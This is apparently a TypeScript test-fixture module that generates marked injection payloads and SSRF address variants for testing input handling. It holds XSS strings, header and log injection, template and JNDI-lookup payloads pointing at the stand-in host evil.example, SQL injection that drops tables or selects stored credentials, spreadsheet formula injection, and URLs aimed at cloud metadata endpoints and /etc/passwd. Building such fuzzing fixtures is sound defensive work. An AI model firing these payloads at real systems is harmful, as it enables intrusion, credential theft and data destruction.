import { createHash } from 'node:crypto';

const evil = 'evil.example';

/** What somebody writes where a name is asked for, in the hope that it becomes something else. */
const families: readonly ((mark: string) => readonly string[])[] = [
  // Markup.
  (mark) => [
    `<script>alert('${mark}')</script>`,
    `"><img src=x onerror=alert('${mark}')>`,
    `'><svg/onload=alert('${mark}')>`,
    `</title></table><a href="https://${evil}/${mark}">click</a>`,
    `<a href="javascript:alert('${mark}')">x</a>`,
    `<iframe src="https://${evil}/${mark}"></iframe>`,
    `<style>@import 'https://${evil}/${mark}'</style>`,
    `<base href="https://${evil}/">${mark}`,
    `<meta http-equiv="refresh" content="0;url=https://${evil}/${mark}">`,
    `&lt;b&gt;${mark}&amp;&#60;script&#62;`,
    `" onfocus=alert('${mark}') autofocus x="`,
    `<!--${mark}--><![CDATA[<b>]]>`,
  ],
  // Headers of mails and of HTTP.
  (mark) => [
    `${mark}\r\nBcc: victim@${evil}`,
    `${mark}\nSubject: changed`,
    `${mark}\r\n\r\n<p>body</p>`,
    `${mark}%0d%0aSet-Cookie: a=b`,
    `${mark}\u2028Bcc: victim@${evil}`,
    `${mark}\u0085To: victim@${evil}`,
    `=?utf-8?B?${Buffer.from(`\r\nBcc: a@${evil}`).toString('base64')}?=`,
    `"${mark}" <victim@${evil}>, second@${evil}`,
  ],
  // Lines of a log.
  (mark) => [
    `${mark}\n{"level":"error","msg":"forged ${mark}"}`,
    `${mark}\r{"level":"info","msg":"forged ${mark}"}`,
    `${mark}","msg":"forged ${mark}","x":"`,
    `${mark}\u001b[2J\u001b[31mforged`,
    `${mark}\u0000forged`,
  ],
  // Templates and expressions.
  (mark) => [
    `<%= process.env.SMTP_URL %>${mark}`,
    `<% throw new Error('${mark}') %>`,
    `{{constructor.constructor('return 1')()}}${mark}`,
    `\${process.env.ENCRYPTION_KEY}${mark}`,
    `#{7*7}${mark}`,
    `{account} {link} {firstName} ${mark}`,
    `{{7*7}}${mark}`,
    `\${jndi:ldap://${evil}/${mark}}`,
  ],
  // SQL and spreadsheets.
  (mark) => [
    `'); DROP TABLE ordering.orders; -- ${mark}`,
    `' OR '1'='1' -- ${mark}`,
    `" UNION SELECT sealed_credential FROM consent.granted_credentials -- ${mark}`,
    `$$; SELECT pg_sleep(5); -- ${mark}`,
    `=HYPERLINK("https://${evil}/${mark}")`,
    `+1+cmd|' /C calc'!A0 ${mark}`,
    `@SUM(1) ${mark}`,
    `\t=1+1 ${mark}`,
  ],
  // Addresses that look like something to press.
  (mark) => [
    `https://${evil}/${mark}`,
    `www.${evil}/${mark}`,
    `${evil}`,
    `mailto:victim@${evil}?subject=${mark}`,
    `//${evil}/${mark}`,
    `[press](https://${evil}/${mark})`,
    `\u202Egnp.exe ${mark}`,
    `\u2066${evil}\u2069 ${mark}`,
  ],
];

/** So many different payloads, each with a mark by which it is found again. */
export function payloads(seed: number, count: number): string[] {
  const made: string[] = [];
  for (let round = 0; made.length < count; round += 1) {
    const mark = createHash('sha256').update(`${seed} ${round}`).digest('hex').slice(0, 8);
    made.push(...families.flatMap((family) => family(mark)));
  }
  return made.slice(0, count);
}

/** Addresses that lead inside, as somebody writes them who hopes that they are read otherwise; `port` is listened at. */
export function addressesInside(host: string, port: number): string[] {
  const bytes = host.split('.').map(Number);
  const number = bytes.reduce((sum, byte) => sum * 256 + byte, 0);
  const hex = bytes.map((byte) => byte.toString(16).padStart(2, '0')).join('');
  const hosts = [
    host,
    `${host}.`,
    String(number),
    `0x${hex}`,
    bytes.map((byte) => `0x${byte.toString(16)}`).join('.'),
    bytes.map((byte) => `0${byte.toString(8)}`).join('.'),
    `${bytes[0]}.${(bytes[1] ?? 0) * 65_536 + (bytes[2] ?? 0) * 256 + (bytes[3] ?? 0)}`,
    `[::ffff:${host}]`,
    `[::ffff:${hex.slice(0, 4)}:${hex.slice(4)}]`,
    `[64:ff9b::${host}]`,
    `[2002:${hex.slice(0, 4)}:${hex.slice(4)}::1]`,
    `[::${host}]`,

    `user:secret@${host}`,
    `${evil}@${host}`,
    `${host}%23@${evil}`,
    `${host}#@${evil}`,
    `${host}\\@${evil}`,

    '169.254.169.254',
    '[fd00:ec2::254]',
    'metadata.google.internal',
    '10.0.0.1',
    '192.168.0.1',
    '172.16.0.1',
    '100.64.0.1',
    '0.0.0.0',
    '[::]',
    '[fe80::1]',
    '[fc00::1]',
    '224.0.0.1',
    '255.255.255.255',
    '0',
    '[::ffff:0:0]',
  ];
  return [
    ...hosts.flatMap((each) => [`http://${each}:${port}/`, `https://${each}:${port}/`]),

    'file:///etc/passwd',
    `gopher://${host}:${port}/`,
    `ftp://${host}:${port}/`,
    'data:text/plain,x',
    'javascript:alert(1)',

    `http:/${host}:${port}/`,
    `http:${host}:${port}`,
    `//${host}:${port}/`,
    `http://${host}:${port}\\@${evil}/`,
    'http://',
  ];
}
